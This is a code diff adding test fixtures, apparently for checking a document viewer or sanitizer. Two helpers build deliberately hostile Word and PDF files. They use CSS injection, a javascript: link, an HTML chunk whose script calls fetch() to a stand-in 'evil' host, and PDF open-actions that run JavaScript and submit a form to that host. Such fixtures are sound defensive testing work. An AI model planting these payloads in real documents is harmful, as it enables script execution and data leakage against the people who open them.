@@ -1,3 +1,4 @@
+import { utils, write } from '@e965/xlsx'
 import { strToU8, zipSync } from 'fflate'
 import { Document, Packer, Paragraph, TextRun } from 'docx'
 import { PNG as Picture } from 'pngjs'
@@ -96,6 +97,67 @@ export function anXlsx(
       `<sheetData>${sheets[name]!.map(rowOf).join('')}</sheetData>`,
     )
   return zipSync(entries)
+}
+
+/** A workbook as Excel wrote it until 2003, with a sheet of these cells. */
+export function anXls(
+  rows: readonly (readonly (string | number | boolean | Date)[])[],
+): Uint8Array<ArrayBuffer> {
+  const book = utils.book_new(
+    utils.aoa_to_sheet(
+      rows.map((row) => [...row]),
+      { cellDates: false },
+    ),
+    'Duty',
+  )
+  return new Uint8Array(write(book, { type: 'array', bookType: 'biff8' }) as ArrayBuffer)
+}
+
+const MAIN = `${OFFICE}/wordprocessingml/2006/main`
+
+/** A Word document that tries to run scripts and to fetch from `evil`. */
+export function aHostileDocx(evil: string): Uint8Array<ArrayBuffer> {
+  const relation = (id: string, kind: string, target: string, isExternal = true) =>
+    `<Relationship Id="${id}" Type="${RELATION}/${kind}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`
+  const run = (text: string, properties = '') => `<w:r><w:rPr>${properties}</w:rPr><w:t>${text}</w:t></w:r>`
+  const picture = (attribute: string) =>
+    `<w:r><w:drawing><wp:inline xmlns:wp="${OFFICE}/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><a:graphic xmlns:a="${OFFICE}/drawingml/2006/main"><a:graphicData uri="${OFFICE}/drawingml/2006/picture"><pic:pic xmlns:pic="${OFFICE}/drawingml/2006/picture"><pic:blipFill><a:blip ${attribute}="rImage"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`
+  const body = `<w:p>${run('Harmless words.', `<w:rFonts w:ascii="x&quot;;}body{background:url(${evil}/font)}"/>`)}</w:p>
+    <w:p>${run('&lt;img src=x onerror=&quot;top.ran=1&quot;&gt;')}</w:p>
+    <w:p><w:hyperlink r:id="rScript">${run('press me')}</w:hyperlink></w:p>
+    <w:p>${picture('r:embed')}${picture('r:link')}</w:p>
+    <w:altChunk r:id="rChunk"/>`
+  return zipSync({
+    '[Content_Types].xml': strToU8(
+      `<?xml version="1.0"?><Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
+    ),
+    '_rels/.rels': strToU8(
+      `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships">${relation('r1', 'officeDocument', 'word/document.xml', false)}</Relationships>`,
+    ),
+    'word/document.xml': strToU8(
+      `<?xml version="1.0"?><w:document xmlns:w="${MAIN}" xmlns:r="${RELATION}"><w:body>${body}</w:body></w:document>`,
+    ),
+    'word/_rels/document.xml.rels': strToU8(
+      `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships">${relation('rScript', 'hyperlink', 'javascript:top.ran=1')}${relation('rImage', 'image', `${evil}/image.png`)}${relation('rChunk', 'aFChunk', 'chunk.html', false)}</Relationships>`,
+    ),
+    'word/chunk.html': strToU8(
+      `<script>top.ran=1;fetch('${evil}/chunk')</script><img src="${evil}/chunk.png">`,
+    ),
+  })
+}
+
+/** A PDF of one page that tries to run a script and to fetch from `evil` when it is opened. */
+export function aHostilePdf(evil: string): Buffer {
+  const script = `<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("${evil}/form"\\))>>`
+  const link = `<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${evil}/link)>>>>`
+  const drawing = 'BT /F 24 Tf 72 720 Td (Harmless) Tj ET'
+  return pdfOf([
+    `<</Type/Catalog/Pages 2 0 R/OpenAction${script}>>`,
+    '<</Type/Pages/Kids[4 0 R]/Count 1>>',
+    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
+    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA<</O${script}>>/Annots[${link}]/Resources<</Font<</F 3 0 R>>>>/Contents 5 0 R>>`,
+    `<</Length ${drawing.length}>>stream\n${drawing}\nendstream`,
+  ])
 }
 
 /** A picture in one colour. */
